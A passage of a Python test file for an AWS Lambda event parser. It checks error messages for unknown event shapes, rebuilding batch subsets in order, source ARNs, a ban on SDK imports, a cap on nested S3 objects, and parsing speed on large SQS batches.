def test_unknown_shapes_raise_a_clear_error(event: Any, reason: str) -> None:
    with pytest.raises(UnknownEventError) as caught:
        parse_event(event)
    message = str(caught.value)
    assert reason in message
    for expected in ("aws:s3", "s3:TestEvent", "aws:sqs", "aws:sns", "aws:dynamodb", "aws:kinesis", "EventBridge"):
        assert expected in message
    assert isinstance(caught.value, ValueError)


# ------------------------------------------------------------------------------------------ to_event


def test_to_event_keeps_a_subset_verbatim_in_batch_order() -> None:
    event = load("sqs_standard_malicious.json")
    batch = parse_event(event)
    subset = to_event(batch, [batch.records[3], batch.records[0]])
    assert [r["messageId"] for r in subset["Records"]] == [
        "059f36b4-87a3-44ab-83d2-661975830a7d",
        "b9e4f3a2-7c6d-4e8f-9a0b-1c2d3e4f5a6b",
    ]
    assert subset["Records"][0] is event["Records"][0]
    assert len(event["Records"]) == 4  # the original is untouched


def test_to_event_stream_subset_and_empty() -> None:
    batch = parse_event(load("dynamodb_stream.json"))
    assert to_event(batch, batch.records[:2])["Records"] == load("dynamodb_stream.json")["Records"][:2]
    assert to_event(batch, []) == {"Records": []}


def test_to_event_keeps_other_top_level_members() -> None:
    event = {**load("s3_put.json"), "extra": {"kept": True}}
    batch = parse_event(event)
    assert to_event(batch, batch.records) == event


def test_to_event_rejects_foreign_records_and_collapses_duplicates() -> None:
    batch = parse_event(load("sqs_standard.json"))
    other = parse_event(load("sqs_standard.json"))
    with pytest.raises(ValueError, match="belong to the batch"):
        to_event(batch, [other.records[0]])
    assert len(to_event(batch, [batch.records[0], batch.records[0]])["Records"]) == 1


def test_to_event_eventbridge() -> None:
    event = load("eventbridge.json")
    batch = parse_event(event)
    assert to_event(batch, batch.records) == event
    with pytest.raises(ValueError, match="nothing to forward"):
        to_event(batch, [])


def test_batch_describes_where_it_came_from() -> None:
    batch = parse_event(load("sqs_fifo.json"))
    assert isinstance(batch, Batch)
    assert batch.source_arn == "arn:aws:sqs:us-east-1:123456789012:orders.fifo"
    assert parse_event(load("eventbridge.json")).source_arn is None


# ------------------------------------------------------------------------------------------ purity


def test_sources_import_no_aws_sdk_and_no_runtime() -> None:
    for path in SOURCES_DIR.glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            for name in names:
                assert not name.startswith(("boto3", "botocore", "firewall.runtime", "os")), (path, name)


def test_nested_s3_objects_are_capped() -> None:
    entries = [
        {
            "eventSource": "aws:s3",
            "eventName": "ObjectCreated:Put",
            "s3": {"bucket": {"name": "b"}, "object": {"key": f"k{i}"}},
        }
        for i in range(20)
    ]
    body = json.dumps({"Records": entries})
    (record,) = parse_event(sqs_event({"messageId": "m", "body": body}), limits=Limits(max_objects=5)).records
    assert len(record.s3_objects) == 5
    assert record.problems and "more than 5 S3 objects" in record.problems[0]


def test_large_batch_of_json_bodies_is_fast() -> None:
    body = json.dumps({"rows": [{"id": str(i), "name": f"name {i}", "note": "x" * 40} for i in range(3_000)]})
    assert len(body) > 200_000
    event = sqs_event(*({"messageId": f"m{i}", "body": body} for i in range(10)))
    started = time.perf_counter()
    batch = parse_event(event)
    assert time.perf_counter() - started < 3.0
    assert all(len(record.fields) > 9_000 for record in batch.records)
